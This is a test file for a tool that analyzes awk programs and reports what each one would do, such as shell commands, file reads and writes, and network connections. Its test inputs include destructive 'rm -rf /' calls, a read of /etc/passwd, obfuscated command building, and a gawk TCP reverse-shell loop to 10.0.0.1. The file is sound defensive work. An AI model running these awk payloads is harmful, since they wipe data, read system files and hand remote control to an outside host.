import { checkCases } from "../check_cases_test.ts";

// The source, then what it would do, a line each. Cases without lines are look-alikes that must give nothing.
checkCases("awk", [
  ['BEGIN{system("rm -rf /")}', "sh: rm -rf /"],
  ["{print $1}"],
  ['BEGIN { cmd = "rm" " -rf /"; cmd | getline; print "x" | "sh" }', "sh: rm -rf /", "sh: sh << x"],
  [
    '/foo/ {print $2 > "/tmp/out"} END {print s >> "/etc/x"}',
    "write /tmp/out",
    "put /tmp/out << ?\n",
    "write /etc/x",
    "put /etc/x <<+ ?\n",
  ],
  ['BEGIN { while ((getline line < "/etc/passwd") > 0) print line }', "read /etc/passwd"],
  [
    'BEGIN {s="/inet/tcp/0/10.0.0.1/4242"; while(42) { do{ printf "shell>" |& s; s |& getline c; if(c){ while ((c |& getline) > 0) print $0 |& s; close(c); } } while(c != "exit") close(s); }}',
    "connect! tcp://10.0.0.1:4242",
    "sh: ?",
    "opaque download",
  ],
  [
    'BEGIN { printf "%s -rf %s\\n", "rm", "/" | "bash"; system(sprintf("rm %s", ENVIRON["HOME"])) }',
    "sh: bash << rm -rf /\n",
    "sh: rm /home/u",
  ],
  ['{ if ($1 == "foo") print "Exact match foo"; else if ($1 ~ "bar") print "Partial"; else print "Baz" }'],
  ['function f(c) { system(c) } BEGIN { f("id") }', "sh: id"],
  ['{ system("rm " $1) }', "sh: rm ?"],
  ['NR%3==1 { s+=$1; a[$1]++; x = y / z / 2 } END { print s > 0 ? "a" : "b" }'],
  ['BEGIN { FS=":" } $3 >= 1000 { print $1 }'],
  ['{ print "rm -rf /" | "cat"; $0 = "x"; print | "sh" }', "sh: cat << rm -rf /", "sh: sh << ?"],
  ['BEGIN { "date" | getline d; close("date"); print d }', "sh: date"],
  ['{ gsub(/rm -rf/, "x"); print toupper($0), length($0), substr($1, 2) }'],
  ['END { for (k in a) print k, a[k] | "sort -n" }', "sh: sort -n << ? ?"],
  ['@include "lib.awk"\nBEGIN { print "system(\\"x\\")" }', "read lib.awk", "opaque file"],
  [
    'BEGIN { c = sprintf("%c%c", 105, 100); system(c); system("rm -rf " ENVIRON["HOME"] "/x") }',
    "sh: id",
    "sh: rm -rf /home/u/x",
  ],
  [
    '$1 ~ /a\\/b/ && !seen[$2]++ { n++ } function g(x,  y) { y = x "z"; return y } BEGIN { system(g("w")) }',
    "sh: wz",
  ],
]);
